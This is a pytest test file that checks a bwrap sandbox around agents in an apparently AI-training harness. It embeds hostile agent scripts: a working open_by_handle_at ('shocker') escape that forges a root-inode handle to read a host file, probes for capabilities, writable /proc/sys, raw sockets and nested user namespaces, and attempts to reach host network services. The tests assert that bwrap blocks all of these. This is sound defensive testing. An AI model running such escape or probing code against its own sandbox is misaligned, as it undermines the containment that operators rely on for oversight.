"""The sandbox's walls, tried by hostile agents in real campaign runs (`ptb-harness run`, the
real Snakemake), under `bwrap` and under `none`. CI runs as root, so "the harness runs as
root" is the case measured; the README's threat model table is these results.

Each agent is one attempt, all as cells of ONE campaign per runtime. Under `bwrap` each
fails and its cell is scored honestly on the model it left; under `none` (trusted agents
only) most succeed, and the tests assert what really happens there, so the README says it.

The harness of these runs lives under /tmp, as a checkout there has it: its venv (and the
campaign dir, so the frozen harness snapshot). Before, bwrap bound the job's tmp over /tmp
after the interpreter, hiding the venv, and every cell failed with `python: command not
found`.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from conftest import campaign_config, fake_nvidia_root, make_workdir, write_agent, write_config, write_task
from conftest import cell_dir as _cell_dir
from hostile import harness_run, ptb, tmp_venv, write_profile

from ptb_harness.runtime import slirp

pytestmark = pytest.mark.slow

HOURS = "0.002"
HOST_FILE = "host-only-9d41c7e2b8"  # in a host file the escape tries to read
ROOT = os.geteuid() == 0
#: the scorer of task `fake`: the score the agent's model names, nothing more
SCORER = """
    import argparse, json, pathlib
    ap = argparse.ArgumentParser()
    ap.add_argument("--model-path"); ap.add_argument("--json-output-file"); ap.add_argument("--max-tokens", type=int)
    a = ap.parse_args()
    cfg = json.loads(pathlib.Path(a.model_path, "config.json").read_text())
    pathlib.Path(a.json_output_file).write_text(json.dumps({"accuracy": cfg.get("score", 0.5)}))
"""
ONE_ATTEMPT = {"evaluate": {"ladder": [{"attempts": 1, "max_tokens": None}]}}
MODEL = "mkdir -p final_model && echo '{\"score\": %s}' > final_model/config.json\n"
W = 'export W=$(dirname "$(dirname "$MODEL_TO_TRAIN")")\n'  # the campaign dir, from the model's path

#: open_by_handle_at: a hand-made handle for the filesystem's root inode (ext4: inode 2,
#: FILEID_INO32_GEN), relative to an fd of the bound job dir ("shocker"); with
#: CAP_DAC_READ_SEARCH it gives the fs root, read-write. Then the harness's host file.
ESCAPE_BY_HANDLE = r"""
python - <<'PY'
import ctypes, errno, hashlib, os, struct
libc = ctypes.CDLL(None, use_errno=True)
home = os.open(os.environ["HOME"], os.O_RDONLY | os.O_DIRECTORY)
def handle_open(handle):
    fd = libc.open_by_handle_at(home, ctypes.create_string_buffer(handle), os.O_RDONLY | os.O_DIRECTORY)
    return fd, errno.errorcode.get(ctypes.get_errno(), "?")
# the job dir's own handle (name_to_handle_at needs no privilege) ...
own = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
mount_id = ctypes.c_int()
libc.name_to_handle_at(home, b"", own, ctypes.byref(mount_id), 0x1000)  # AT_EMPTY_PATH
size = struct.unpack_from("=I", own, 0)[0]
fd, why = handle_open(own.raw[: 8 + size])
print("OWN_HANDLE", "OPENED" if fd >= 0 else why)
# ... and the hand-made one of the filesystem's root
fd, why = handle_open(struct.pack("=IiII", 8, 1, 2, 0))
if fd < 0:
    print("ROOT_HANDLE", why)
else:
    print("ROOT_HANDLE OPENED")
    try:
        f = os.open(os.environ["W"].lstrip("/") + "/host_file.txt", os.O_RDONLY, dir_fd=fd)
        print("ESCAPED", hashlib.sha256(os.read(f, 1000)).hexdigest())
    except OSError as e:
        print("ESCAPE_READ", e)
PY
"""

#: what a process holds: capabilities, host name, /proc/sys, raw sockets, nested user
#: namespaces, setuid mounts
PRIVILEGES = r"""
grep -E '^(CapEff|CapBnd|NoNewPrivs):' /proc/self/status
python - <<'PY'
import errno, os, socket, sys
print("PYTHON", sys.prefix)
print("HOSTNAME", socket.gethostname())
try:
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))  # opened and closed: nothing written
    print("PROC_SYS WRITABLE")
except OSError as e:
    print("PROC_SYS", errno.errorcode[e.errno])
for name, family, kind, proto in (("RAW_SOCKET", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                                  ("PACKET_SOCKET", socket.AF_PACKET, socket.SOCK_RAW, 0)):
    try:
        socket.socket(family, kind, proto).close()
        print(name, "OPENED")
    except OSError as e:
        print(name, errno.errorcode[e.errno])
with open("/proc/self/mountinfo") as f:
    for line in f:
        fields = line.split()
        if "nosuid" not in fields[5].split(","):
            print("SUID_MOUNT", fields[4])
PY
unshare --user true 2>/dev/null && echo "NESTED_USERNS allowed" || echo "NESTED_USERNS refused"
echo "NVIDIA_FILES $(ls /dev | grep -i nvidia | tr '\n' ' ')"
"""

#: what of the network it reaches: the targets are filled in when the services are up
NET_REACH = r"""
python - <<'PY'
import errno, socket
for target in TARGETS:
    host, port = target.rsplit(":", 1)
    s = socket.socket()
    s.settimeout(10)
    try:
        s.connect((host, int(port)))
        print("NET", target, "REACHED", s.recv(100).decode())
    except OSError as e:
        print("NET", target, errno.errorcode.get(e.errno, str(e)))
PY
"""

ATTEMPTS = {
    "escape_by_handle": W + ESCAPE_BY_HANDLE + MODEL % "0.35",
    "privileges": PRIVILEGES + MODEL % "0.45",
    "net_reach": NET_REACH + MODEL % "0.55",
}


def banner_server(sock: socket.socket, banner: bytes) -> None:
    """Answer every connection with ``banner`` (a thread of this test, until sock closes)."""

    def serve():
        while True:
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            conn.sendall(banner)
            conn.close()

    sock.listen(16)
    threading.Thread(target=serve, daemon=True).start()


def sh(*argv: str) -> None:
    """Run a set-up command; a failure says which and why (its stderr)."""
    res = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    if res.returncode != 0:
        raise subprocess.CalledProcessError(res.returncode, argv, res.stdout, res.stderr)


def _fail_with_stderr(error: subprocess.CalledProcessError) -> None:
    pytest.fail(f"network set-up: {' '.join(error.cmd)} exited {error.returncode}: {error.stderr.strip()}")


#: the stand-in for "outside": a server in a second network namespace this test makes
OUTSIDE_SERVER = """
import socket, sys
s = socket.create_server(("0.0.0.0", 0)); print(s.getsockname()[1], flush=True)
while True:
    c, _ = s.accept(); c.sendall(b"OUTSIDE-STAND-IN"); c.close()
"""


@pytest.fixture(scope="module")
def network_targets():
    """Services the agents try to reach: on the host's 127.0.0.1, on the host's 0.0.0.0 (so
    at its own addresses), and a STAND-IN for an address outside: a server in a network
    namespace of its own (`unshare --net`), joined to the host by a veth pair (10.231.N.0/30)
    and reached from the host by its route, as the internet would be. Root only (CI runs as
    root); the test ends only the server it started, and the namespace and pair end with it.

    The namespace is held by the server process, never named under /run/netns: `ip netns
    add` shares that directory's mounts, and another `ip netns add` on the machine at the
    same moment can bind the directory over itself and hide this test's namespace (`ip -n`
    then fails with "Invalid argument")."""
    if not ROOT:
        pytest.skip("making the stand-in network namespace needs root")
    # names and a /30 no other run beside this one can hold (a pid repeats across machines'
    # containers and after wrap-around; interface names hold 15 characters)
    tag, block = secrets.token_hex(5), secrets.randbelow(1 << 14)
    host_if, out_if = f"ptbh{tag}", f"ptbo{tag}"
    inner, outer = f"10.231.{block >> 6}.{(block & 63) * 4 + 2}", f"10.231.{block >> 6}.{(block & 63) * 4 + 1}"
    loopback = socket.socket()
    loopback.bind(("127.0.0.1", 0))
    banner_server(loopback, b"HOST-LOOPBACK")
    anywhere = socket.socket()
    anywhere.bind(("0.0.0.0", 0))
    banner_server(anywhere, b"HOST-ANY")
    # unshare without --fork execs the server in its own process: its pid holds the namespace
    server = subprocess.Popen(
        ["unshare", "--net", sys.executable, "-c", OUTSIDE_SERVER], stdout=subprocess.PIPE, text=True
    )
    try:
        line = server.stdout.readline()  # its port: listening on 0.0.0.0, before its address exists
        if not line.strip().isdigit():
            pytest.fail(f"network set-up: the stand-in's server in `unshare --net` said {line!r}, exit {server.poll()}")
        port = int(line)
        inside = ["nsenter", f"--net=/proc/{server.pid}/ns/net", "ip"]
        try:
            sh("ip", "link", "add", host_if, "type", "veth", "peer", "name", out_if, "netns", str(server.pid))
            sh("ip", "addr", "add", f"{outer}/30", "dev", host_if)
            sh("ip", "link", "set", host_if, "up")
            sh(*inside, "addr", "add", f"{inner}/30", "dev", out_if)
            sh(*inside, "link", "set", out_if, "up")
        except subprocess.CalledProcessError as e:
            _fail_with_stderr(e)
        own = [a.split("/")[0] for a in slirp.host_addresses(Path("/proc/net/fib_trie").read_text())]
        assert outer in own
        yield {
            "loopback": f"127.0.0.1:{loopback.getsockname()[1]}",
            "alias": f"10.0.2.2:{loopback.getsockname()[1]}",
            "own": [f"{a}:{anywhere.getsockname()[1]}" for a in own],
            "outside": f"{inner}:{port}",
        }
    finally:
        server.kill()  # the stand-in's server, started above: its namespace and veth end go with it
        server.wait()
        with contextlib.suppress(subprocess.CalledProcessError):
            sh("ip", "link", "del", host_if)  # the pair made here, if the kernel has not yet
        loopback.close()
        anywhere.close()


def cell_dir(workdir: Path, agent: str) -> Path:
    return _cell_dir(workdir, agent, hours=HOURS)


def trace(workdir: Path, agent: str) -> str:
    return (cell_dir(workdir, agent) / "solve_out.txt").read_text()


def said(workdir: Path, agent: str, key: str) -> list[str]:
    """What the agent printed after ``key`` (every line that starts with it)."""
    out = []
    for line in trace(workdir, agent).splitlines():
        text = line.split("] ", 1)[-1]  # after the harness's timestamp
        if text.startswith(key + " ") or text.startswith(key + ":"):
            out.append(text[len(key) + 1 :].strip())
    return out


@pytest.fixture(scope="module", params=["bwrap", "none"])
def walls(request, tmp_path_factory, network_targets):
    runtime = request.param
    root = tmp_path_factory.mktemp(f"walls-{runtime}")
    assert str(root).startswith("/tmp/")
    python = tmp_venv(root)
    workdir = make_workdir(root / "campaign")
    write_task(workdir, "fake", SCORER, ONE_ATTEMPT)
    t = network_targets
    targets = [t["loopback"], *([t["alias"]] if runtime == "bwrap" else []), *t["own"], t["outside"]]
    for name, body in ATTEMPTS.items():
        write_agent(workdir, name, body.replace("TARGETS", repr(targets)))
    (workdir / "host_file.txt").write_text(HOST_FILE)
    write_config(workdir, campaign_config(agents=list(ATTEMPTS), hours=[float(HOURS)]))
    # the bwrap GPU fence reads a faked driver with three cards (no GPU here): these CPU
    # cells must get none of their device files
    gpu_root = fake_nvidia_root(root / "fake-nvidia")
    profile = write_profile(
        root,
        runtime=runtime,
        gpu_device_root=str(gpu_root),
        solve_resources={"cpus": 1},
        evaluate_resources={"cpus": 1},
    )
    run = harness_run(workdir, profile, python=str(python))
    assert "Traceback" not in run.stderr.replace("Traceback (most recent call last)", ""), run.stderr[-3000:]
    data = json.loads(ptb(workdir, profile, "status", "--json"))
    outcomes = {c["agent"]: (c["outcome"], c["evidence"]) for c in data["cells"]}
    return runtime, workdir, outcomes, python


def test_every_attempt_is_scored_honestly_on_its_model(walls):
    _runtime, _workdir, outcomes, _python = walls
    assert outcomes["escape_by_handle"] == ("scored", "accuracy 0.35"), outcomes
    assert outcomes["privileges"] == ("scored", "accuracy 0.45"), outcomes
    assert outcomes["net_reach"] == ("scored", "accuracy 0.55"), outcomes


def test_the_host_is_out_of_reach_and_outside_is_not(walls, network_targets):
    runtime, workdir, _, _python = walls
    t = network_targets
    seen = dict(line.split(" ", 1) for line in said(workdir, "net_reach", "NET"))
    assert seen[t["outside"]] == "REACHED OUTSIDE-STAND-IN", seen  # through slirp4netns, under bwrap
    if runtime == "bwrap":
        assert seen[t["loopback"]] == "ECONNREFUSED"  # its own loopback, where nothing listens
        assert seen[t["alias"]] == "ENETUNREACH"  # slirp's alias of the host: --disable-host-loopback
        assert {seen[own] for own in t["own"]} == {"EACCES"}, seen  # the prohibit routes
    else:
        # runtime none: the host's own network, every service of the host reachable
        assert seen[t["loopback"]] == "REACHED HOST-LOOPBACK"
        assert {seen[own] for own in t["own"]} == {"REACHED HOST-ANY"}, seen


def test_open_by_handle_at_escape(walls):
    runtime, workdir, _, _python = walls
    own, root = said(workdir, "escape_by_handle", "OWN_HANDLE"), said(workdir, "escape_by_handle", "ROOT_HANDLE")
    escaped = said(workdir, "escape_by_handle", "ESCAPED")
    if runtime == "bwrap" or not ROOT:
        # no CAP_DAC_READ_SEARCH in any namespace: any handle, even its own dir's, is refused
        assert own == ["EPERM"] and root == ["EPERM"] and escaped == []
    else:
        # runtime none as root: the agent is root; the hand-made handle opens the fs root
        assert own == ["OPENED"] and root == ["OPENED"]
        assert escaped in ([], [hashlib.sha256(HOST_FILE.encode()).hexdigest()])


def test_no_capability_no_proc_sys_no_raw_socket_and_a_venv_under_tmp_works(walls):
    runtime, workdir, _, python = walls

    def one(key):
        values = said(workdir, "privileges", key)
        assert len(values) == 1, (key, trace(workdir, "privileges")[-3000:])
        return values[0]

    assert one("PYTHON") == str(python.parent.parent)  # the harness's venv under /tmp, in both runtimes
    if runtime == "bwrap":
        assert int(one("CapEff"), 16) == 0 and int(one("CapBnd"), 16) == 0 and one("NoNewPrivs") == "1"
        assert one("HOSTNAME") == "ptb-sandbox" != socket.gethostname()
        assert one("PROC_SYS") == "EROFS"
        assert one("RAW_SOCKET") == "EPERM" and one("PACKET_SOCKET") == "EPERM"
        assert one("NESTED_USERNS") == "refused"
        assert said(workdir, "privileges", "SUID_MOUNT") == []
        assert said(workdir, "privileges", "NVIDIA_FILES") == [""]  # the fence: no card for a CPU cell
    else:
        # what runtime none really gives an agent: the harness's own privileges and host
        assert (int(one("CapEff"), 16) != 0) == ROOT and one("NoNewPrivs") == "0"
        assert one("HOSTNAME") == socket.gethostname()
        assert (one("PROC_SYS") == "WRITABLE") == ROOT
        assert (one("RAW_SOCKET") == "OPENED") == ROOT
